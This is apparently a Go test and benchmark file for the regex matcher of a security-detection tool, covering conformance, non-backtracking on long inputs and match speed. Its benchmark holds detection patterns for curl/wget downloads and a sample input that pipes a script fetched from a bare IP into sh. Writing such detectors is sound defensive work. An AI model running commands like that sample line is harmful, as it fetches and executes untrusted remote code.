package esvalue

import (
	"strings"
	"testing"

	"github.com/emit-sec/emit/es/regexp"
	"github.com/emit-sec/emit/es/regexp/regexptest"
)

// TestRegexpConformance runs the whole conformance table through the
// evaluators' matcher.
func TestRegexpConformance(t *testing.T) {
	for _, c := range regexptest.Cases(t) {
		m, err := ParseRegexp(c.Pattern, c.Flags)
		if c.Err {
			if err == nil {
				t.Errorf("%v: compiles, want an error %q", c, c.ErrMsg)
			}
			continue
		}
		if err != nil {
			t.Errorf("%v: %v", c, err)
			continue
		}
		for _, s := range c.Match {
			if !m.Match(s) {
				t.Errorf("%v does not match %q", c, s)
			}
		}
		for _, s := range c.NoMatch {
			if m.Match(s) {
				t.Errorf("%v matches %q", c, s)
			}
		}
	}
}

// TestRegexpLong checks that long inputs and large counts stay cheap: the
// matcher never backtracks.
func TestRegexpLong(t *testing.T) {
	in := strings.Repeat("ab", 2000) + "c"
	for _, tt := range []struct {
		re   string
		want bool
	}{
		{".*c", true}, {"(ab)*c", true}, {"(ab){2000}c", true}, {"(ab){1999}c", false},
		{"(a|b)*", false}, {"~(.*d.*)", true}, {"(.*b.*)&(.*c)", true}, {"(a*)*b*c", false},
		{"((ab){10000})*c", false}, {"(a?){10000}(ab)*c", true}, {"(.*a.*)*c", true},
		{"((a|b)*)*d", false}, {"@&~(.*abd.*)", true}, {"@&~(.*abc.*)", false}, {"(~(.*bb.*)){2}", true},
		{"<0-99999>", false}, {"(a|ab)(c|bcd)(d*)", false},
		{"(.{0,10000}){0,10000}x", false}, {"((ab){0,10000}){0,10000}c", true},
		{"((ab){1,10000}){1,10000}c", true}, {"((ab)?){1,10000}c", true}, {"((a|b){1,100})*c", true},
	} {
		m, err := ParseRegexp(tt.re, regexp.All)
		if err != nil {
			t.Fatal(err)
		}
		if got := m.Match(in); got != tt.want {
			t.Errorf("%q on a %d-character input = %v, want %v", tt.re, len(in), got, tt.want)
		}
	}
}

func BenchmarkRegexpMatch(b *testing.B) {
	cases := []struct{ re, in string }{
		{`.*\.exe`, "svchost.exe"},
		{`[a-z]{8}\.exe`, "abcdefgh.exe"},
		{`.*(curl|wget) http://[0-9.]+/.*`, "bash -c curl http://10.0.0.1/x.sh | sh"},
		{`.*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}.*`, "wget " + strings.Repeat("x", 200) + " 192.168.10.200 -O-"},
		{`~(.*cmd.*)&[a-z]{1,12}`, "powershell"},
		{`<1-65535>`, "8080"},
	}
	var ms []*Regexp
	for _, c := range cases {
		m, err := ParseRegexp(c.re, regexp.All)
		if err != nil {
			b.Fatal(err)
		}
		ms = append(ms, m)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for k, m := range ms {
			m.Match(cases[k].in)
		}
	}
}
